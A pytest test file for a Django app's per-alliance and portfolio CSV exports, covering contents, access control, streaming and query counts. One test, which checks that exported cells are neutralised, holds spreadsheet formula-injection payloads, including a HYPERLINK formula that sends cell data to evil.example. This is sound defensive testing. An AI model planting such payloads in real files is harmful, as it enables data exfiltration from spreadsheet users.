"""CSV exports of scores, KPIs, actions and risks, per alliance and per portfolio, from the
pages and from the API: what each holds, the other side's internal rows absent, outsiders
and unknown kinds 404, formula-safe cells, streamed UTF-8 downloads, and one query per
export however many alliances and rows."""

import csv
import io
from datetime import date, timedelta

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from rest_framework.test import APIClient

from alliances import services
from alliances.api.auth import api_token_create
from alliances.models import Membership, Side, Visibility
from governance.models import ActionItem, ActionStatus, Risk, RiskCategory
from scorecards import kpis
from scorecards.alerts import threshold_check
from scorecards.models import CornerScore, Kpi, KpiGroup, KpiUnit, Light, Metric, View
from tests.api.conftest import v1
from tests.factories import ContactFactory
from tests.test_health_alerts import CORNERS, add_round

CORNER = "Relational trust"
KINDS = ["scores", "kpis", "actions", "risks"]
HEADERS = {
    "scores": "alliance,period_start,period,stage,metric,view,side,score,light,responses",
    "kpis": "alliance,kpi,group,unit,month,value,light",
    "actions": "alliance,title,owner,owner_side,due_on,status,source,visibility,overdue",
    "risks": "alliance,title,category,likelihood,impact,score,owner,status,visibility",
}


@pytest.fixture
def api_for(db):
    """``api_for(user, org)``: an API client holding a new token of that membership (as in
    tests/api/conftest.py)."""

    def make(user, organization):
        membership = Membership.objects.get(user=user, organization=organization)
        _, key = api_token_create(membership=membership, name="test")
        client = APIClient()
        client.credentials(HTTP_AUTHORIZATION=f"Bearer {key}")
        return client

    return make


def page(alliance, kind, org="northwind"):
    return f"/o/{org}/alliances/{alliance.pk}/export/{kind}.csv"


def portfolio(kind, org="northwind"):
    return f"/o/{org}/export/{kind}.csv"


def api(alliance, kind, org="northwind"):
    return v1(f"organizations/{org}/alliances/{alliance.pk}/exports/{kind}.csv")


def api_portfolio(kind, org="northwind"):
    return v1(f"organizations/{org}/exports/{kind}.csv")


def body(response) -> str:
    assert response.status_code == 200, response.status_code
    assert response.streaming
    return b"".join(response.streaming_content).decode("utf-8")


def table(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(body(response))))


def scored(alliance, index=0):
    """A closed round with visible scores for everyone and each side, lit."""
    survey_round = add_round(
        alliance,
        index,
        {**dict.fromkeys(CORNERS, 72), "trust": 70},
        lead={"relational": 64},
        partner={"relational": 40},
    )
    threshold_check(now=timezone.now(), alliance_ids=[alliance.pk])
    return survey_round


def kpi_with_values(alliance, name="Joint pipeline", values=(12, 7), **fields):
    fields = {
        "group": KpiGroup.VALUE,
        "unit": KpiUnit.COUNT,
        "green_from": 10,
        "red_below": 5,
        **fields,
    }
    kpi = kpis.kpi_save(kpi=Kpi(alliance=alliance, name=name, **fields))
    for months_back, value in enumerate(values, start=1):
        month = date.today().replace(day=1) - timedelta(days=31 * months_back)
        kpis.kpi_value_save(kpi=kpi, month=month, value=value)
    return kpi


def action(alliance, title, *, organization=None, visibility=Visibility.SHARED, **fields):
    organization = organization or alliance.lead_organization
    side = alliance.side_of(organization)
    return ActionItem.objects.create(
        alliance=alliance,
        author_organization=organization,
        visibility=visibility,
        title=title,
        owner=alliance.contacts.filter(side=side).first(),
        due_on=fields.pop("due_on", date.today() + timedelta(days=7)),
        **fields,
    )


def risk(alliance, title, *, organization=None, visibility=Visibility.SHARED, **fields):
    organization = organization or alliance.lead_organization
    side = alliance.side_of(organization)
    return Risk.objects.create(
        alliance=alliance,
        author_organization=organization,
        visibility=visibility,
        title=title,
        category=fields.pop("category", RiskCategory.COMMERCIAL),
        likelihood=fields.pop("likelihood", 2),
        impact=fields.pop("impact", 5),
        owner=fields.pop("owner", alliance.contacts.filter(side=side).first()),
        **fields,
    )


# --- what each export holds -------------------------------------------------------------------


def test_scores_hold_every_closed_rounds_scores_and_lights_never_an_answer(world, client_for):
    survey_round = scored(world.shared)
    CornerScore.objects.filter(round=survey_round, view=View.PARTNER).update(responses=2)
    CornerScore.objects.create(
        alliance=world.shared,
        round=survey_round,
        metric=Metric.RELATIONAL,
        view=View.FUNCTION,
        function="sales",
        score=55,
        responses=5,
    )
    rows = table(client_for(world.ada).get(page(world.shared, "scores")))
    assert {row["alliance"] for row in rows} == {world.shared.name}
    # The world's own round was never scored: only the scored round is there, in corner order.
    assert [row["metric"] for row in rows if row["view"] == "everyone"] == [
        "Strategic alignment",
        "Operational integration",
        "Relational trust",
        "Value realisation",
        "Trust anchor",
    ]
    everyone = next(
        r for r in rows if r["view"] == "everyone" and r["metric"] == "Relational trust"
    )
    assert everyone["period_start"] == survey_round.period_start.isoformat()
    assert everyone["period"] == survey_round.label
    assert everyone["side"] == "Everyone"
    assert everyone["score"] == "72"
    assert everyone["responses"] == "8"
    stored = Light.objects.get(round=survey_round, metric=Metric.RELATIONAL, view=View.ALL)
    assert everyone["light"] == stored.get_color_display()
    strategic = next(r for r in rows if r["metric"] == "Strategic alignment")
    assert (strategic["score"], strategic["light"]) == ("72", "Green")
    lead = next(r for r in rows if r["view"] == "lead")
    assert (lead["side"], lead["score"], lead["responses"]) == ("Northwind", "64", "4")
    # Fewer than 3 people: the cell is listed with its size, its score blank.
    partner = next(r for r in rows if r["view"] == "partner")
    assert (partner["side"], partner["score"], partner["responses"]) == ("Contoso", "", "2")
    assert not any(r["view"] == "function" for r in rows)
    assert len(rows) == 5 + 2  # five metrics for everyone, relational for each side


def test_kpis_hold_each_month_with_its_light(world, client_for):
    kpi_with_values(world.shared, values=(12, 7, 3))
    archived = kpi_with_values(world.shared, name="Old measure", values=(1,))
    kpis.kpi_archive(kpi=archived)
    rows = table(client_for(world.ben).get(page(world.shared, "kpis", org="contoso")))
    assert [(r["kpi"], r["value"], r["light"]) for r in rows] == [
        ("Joint pipeline", "3", "Red"),
        ("Joint pipeline", "7", "Yellow"),
        ("Joint pipeline", "12", "Green"),
    ]
    first = rows[0]
    assert first["alliance"] == world.shared.name
    assert (first["group"], first["unit"]) == ("Value", "Count (whole numbers)")
    assert len(first["month"]) == 7 and first["month"] < rows[-1]["month"]  # YYYY-MM, oldest first


def test_actions_hold_owner_side_status_and_overdue(world, client_for):
    late = action(world.shared, "Send the forecast", due_on=date.today() - timedelta(days=3))
    action(
        world.shared,
        "Finished long ago",
        due_on=date.today() - timedelta(days=30),
        status=ActionStatus.DONE,
    )
    rows = {r["title"]: r for r in table(client_for(world.ada).get(page(world.shared, "actions")))}
    assert rows[late.title] == {
        "alliance": world.shared.name,
        "title": late.title,
        "owner": late.owner.name,
        "owner_side": "Northwind",
        "due_on": late.due_on.isoformat(),
        "status": "Open",
        "source": "Manual",
        "visibility": "shared",
        "overdue": "yes",
    }
    assert rows["Finished long ago"]["overdue"] == "no"
    assert rows["Contoso shared action"]["owner_side"] == "Contoso"
    assert rows["Northwind internal action"]["visibility"] == "internal"


def test_risks_hold_their_scores(world, client_for):
    top = risk(world.shared, "Key engineer leaves", likelihood=5, impact=5)
    rows = table(client_for(world.ada).get(page(world.shared, "risks")))
    assert rows[0] == {
        "alliance": world.shared.name,
        "title": top.title,
        "category": "Commercial",
        "likelihood": "5",
        "impact": "5",
        "score": "25",
        "owner": top.owner.name,
        "status": "Open",
        "visibility": "shared",
    }
    assert [int(r["score"]) for r in rows] == sorted((int(r["score"]) for r in rows), reverse=True)


@pytest.mark.parametrize("kind", KINDS)
def test_portfolio_exports_every_live_alliance_of_the_organisation(world, client_for, kind):
    for alliance in (world.shared, world.litware, world.fabrikam_alliance):
        scored(alliance)
        kpi_with_values(alliance)
    gone = services.alliance_create(
        organization=world.northwind, user=world.ada, name="Archived one", partner_name="Old"
    )
    ContactFactory(alliance=gone, side=Side.LEAD)
    action(gone, "Archived action")
    gone.archived_at = timezone.now()
    gone.save()
    rows = table(client_for(world.ada).get(portfolio(kind)))
    assert {r["alliance"] for r in rows} == {world.shared.name, world.litware.name}
    # The partner's portfolio: only the alliance it is a party to.
    rows = table(client_for(world.ben).get(portfolio(kind, org="contoso")))
    assert {r["alliance"] for r in rows} == {world.shared.name}


def test_portfolio_exports_take_the_portfolio_filters(world, client_for):
    rows = table(client_for(world.ada).get(portfolio("actions") + "?partner=Litware&sort=x"))
    assert {r["alliance"] for r in rows} == {world.litware.name}
    rows = table(client_for(world.ada).get(portfolio("actions") + "?stage=nonsense"))
    assert {r["alliance"] for r in rows} == {world.shared.name, world.litware.name}
    every_filter = "?stage=1&model=complementary&light=red&importance=3&partner=Nobody"
    for kind in KINDS:
        assert body(client_for(world.ada).get(portfolio(kind) + every_filter)).splitlines() == [
            HEADERS[kind]
        ]


# --- the other side's internal records --------------------------------------------------------


@pytest.mark.parametrize("kind", ["actions", "risks"])
def test_each_side_sees_its_own_internal_rows_and_never_the_others(world, client_for, kind):
    noun = kind[:-1]
    for user, org, own, other in (
        (world.ada, "northwind", "Northwind", "Contoso"),
        (world.ben, "contoso", "Contoso", "Northwind"),
    ):
        client = client_for(user)
        for url in (page(world.shared, kind, org=org), portfolio(kind, org=org)):
            titles = {r["title"] for r in table(client.get(url))}
            assert {f"{own} shared {noun}", f"{own} internal {noun}"} <= titles, url
            assert f"{other} shared {noun}" in titles, url
            assert f"{other} internal {noun}" not in titles, url


def test_the_api_hides_the_other_sides_internal_rows_too(world, api_for):
    for user, organization, other in (
        (world.ada, world.northwind, "Contoso"),
        (world.ben, world.contoso, "Northwind"),
    ):
        client = api_for(user, organization)
        for url in (
            api(world.shared, "actions", org=organization.slug),
            api_portfolio("risks", org=organization.slug),
        ):
            text = body(client.get(url))
            assert f"{other} shared" in text
            assert f"{other} internal" not in text


# --- outsiders, unknown kinds, methods ------------------------------------------------------------


@pytest.mark.parametrize("kind", KINDS)
def test_outsiders_get_404_on_the_pages(world, client_for, kind):
    client = client_for(world.cy)
    for url in (
        page(world.shared, kind, org="fabrikam"),
        page(world.shared, kind, org="northwind"),
        portfolio(kind, org="northwind"),
    ):
        assert client.get(url).status_code == 404, url
        assert client.post(url).status_code == 404, url
    # The partner, at the lead's other alliance.
    assert client_for(world.ben).get(page(world.litware, kind, org="contoso")).status_code == 404


@pytest.mark.parametrize("kind", KINDS)
def test_outsiders_get_404_from_the_api(world, api_for, kind):
    client = api_for(world.cy, world.fabrikam)
    for url in (
        api(world.shared, kind, org="fabrikam"),
        api(world.shared, kind, org="northwind"),
        api_portfolio(kind, org="northwind"),
    ):
        response = client.get(url, HTTP_ACCEPT="text/csv")
        assert response.status_code == 404, url
        assert response["Content-Type"] == "application/json"
        assert response.json()["status"] == 404
    assert client.get(api(world.fabrikam_alliance, kind, org="fabrikam")).status_code == 200


def test_unknown_kinds_are_404(world, client_for, api_for):
    client = client_for(world.ada)
    for url in (
        page(world.shared, "contacts"),
        page(world.shared, "scores.csv"),
        portfolio("bogus"),
        f"/o/northwind/alliances/{world.shared.pk}/export/scores",
    ):
        assert client.get(url).status_code == 404, url
    token = api_for(world.ada, world.northwind)
    assert token.get(api(world.shared, "answers")).status_code == 404
    assert token.get(api_portfolio("responses")).status_code == 404


def test_exports_are_read_only(world, client_for, api_for):
    assert client_for(world.ada).post(page(world.shared, "actions")).status_code == 405
    assert client_for(world.ada).post(portfolio("actions")).status_code == 405
    token = api_for(world.ada, world.northwind)
    assert token.post(api(world.shared, "actions"), {}).status_code == 405
    assert token.delete(api_portfolio("risks")).status_code == 405


def test_a_viewer_may_export(world, client_for, api_for):
    assert client_for(world.vic).get(page(world.shared, "risks")).status_code == 200
    assert api_for(world.vic, world.northwind).get(api_portfolio("kpis")).status_code == 200


# --- the file ---------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", KINDS)
def test_a_streamed_utf8_download_named_after_the_alliance_or_organisation(world, client_for, kind):
    today = f"{timezone.localdate():%Y-%m-%d}"
    client = client_for(world.ada)
    response = client.get(page(world.shared, kind))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        f'attachment; filename="northwind-contoso-cloud-{kind}-{today}.csv"'
    )
    content = body(response)
    assert content.splitlines()[0] == HEADERS[kind]  # no byte-order mark, like portfolio.csv
    response = client.get(portfolio(kind))
    assert response["Content-Disposition"] == f'attachment; filename="northwind-{kind}-{today}.csv"'
    assert body(response).startswith(HEADERS[kind])


def test_non_ascii_text_survives(world, client_for):
    action(world.shared, "Prüfen: Angebot für Zoë — 5 €")
    assert "Prüfen: Angebot für Zoë — 5 €" in body(
        client_for(world.ada).get(page(world.shared, "actions"))
    )


def test_cells_cannot_run_formulas_and_numbers_stay_numbers(world, client_for):
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    action(world.shared, hostile)
    risk(world.shared, "@SUM(A1:A9)")
    risk(world.shared, "-2+3 cmd")
    kpi_with_values(world.shared, name="+Net margin", unit=KpiUnit.NUMBER, values=(-5.5,))
    client = client_for(world.ada)
    actions = {r["title"] for r in table(client.get(page(world.shared, "actions")))}
    assert "'" + hostile in actions
    assert hostile not in actions
    risks = {r["title"] for r in table(client.get(page(world.shared, "risks")))}
    assert {"'@SUM(A1:A9)", "'-2+3 cmd"} <= risks
    (row,) = table(client.get(page(world.shared, "kpis")))
    assert (row["kpi"], row["value"]) == ("'+Net margin", "-5.5")  # a negative number stays one


# --- the API ----------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", KINDS)
def test_the_api_answers_the_pages_csv(world, client_for, api_for, kind):
    scored(world.shared)
    kpi_with_values(world.shared)
    token = api_for(world.ben, world.contoso)
    for page_url, api_url in (
        (page(world.shared, kind, org="contoso"), api(world.shared, kind, org="contoso")),
        (portfolio(kind, org="contoso"), api_portfolio(kind, org="contoso")),
    ):
        response = token.get(api_url, HTTP_ACCEPT="text/csv")
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        assert response["Content-Disposition"].startswith("attachment; filename=")
        from_api = body(response)
        assert from_api == body(client_for(world.ben).get(page_url))
        assert len(from_api.splitlines()) > 1
    # Whatever the client says it accepts, the export is CSV.
    assert token.get(api(world.shared, kind, org="contoso"), HTTP_ACCEPT="application/json")[
        "Content-Type"
    ].startswith("text/csv")


def test_the_api_takes_the_portfolio_filters(world, api_for):
    text = body(
        api_for(world.ada, world.northwind).get(api_portfolio("risks") + "?partner=Litware")
    )
    assert world.litware.name in text and world.shared.name not in text


def test_the_schema_describes_exports_as_text_csv(world, api_for):
    schema = api_for(world.ada, world.northwind).get("/api/schema/?format=json").json()
    for path in (
        "/api/v1/organizations/{org}/exports/scores.csv",
        "/api/v1/organizations/{org}/alliances/{alliance}/exports/risks.csv",
    ):
        operation = schema["paths"][path]["get"]
        assert operation["responses"]["200"]["content"] == {
            "text/csv": {"schema": {"type": "string"}}
        }
        assert "application/json" in operation["responses"]["404"]["content"]
        assert operation["description"]


# --- query counts -----------------------------------------------------------------------------


def add_alliance_with_rows(world, n: int):
    alliance = services.alliance_create(
        organization=world.northwind,
        user=world.ada,
        name=f"Query alliance {n}",
        partner_name=f"Partner {n}",
    )
    if n % 2:
        alliance.partner_organization = world.contoso
        alliance.save(update_fields=["partner_organization"])
    ContactFactory(alliance=alliance, side=Side.LEAD)
    ContactFactory(alliance=alliance, side=Side.PARTNER)
    for i in range(3):
        action(alliance, f"Action {n}.{i}")
        risk(alliance, f"Risk {n}.{i}", owner=None)
    add_round(alliance, n, {**dict.fromkeys(CORNERS, 60 + n), "trust": 65})
    kpi_with_values(alliance, values=(n, n + 1))


def count(client, url) -> int:
    client.get(url).getvalue()  # warm up: the session and anything cached per process
    with CaptureQueriesContext(connection) as captured:
        response = client.get(url)
        lines = len(body(response).splitlines())
    assert lines > 1, url
    return len(captured)


@pytest.mark.parametrize("kind", KINDS)
def test_one_query_per_export_however_many_alliances_and_rows(world, client_for, api_for, kind):
    add_alliance_with_rows(world, 1)
    scored(world.shared)
    kpi_with_values(world.shared, values=(1,))
    client, token = client_for(world.ada), api_for(world.ada, world.northwind)
    urls = [(client, portfolio(kind)), (token, api_portfolio(kind))]
    urls += [(client, page(world.shared, kind)), (token, api(world.shared, kind))]
    before = [count(c, url) for c, url in urls]
    for n in range(2, 6):
        add_alliance_with_rows(world, n)
    for i in range(6):  # more rows of the one alliance too
        action(world.shared, f"More {i}")
        risk(world.shared, f"More {i}")
    scored(world.shared, index=1)
    kpi_with_values(world.shared, name="More", values=(1, 2, 3, 4))
    after = [count(c, url) for c, url in urls]
    assert before == after
    assert max(after) <= 8, after  # session, memberships, alliance, token: the export is one
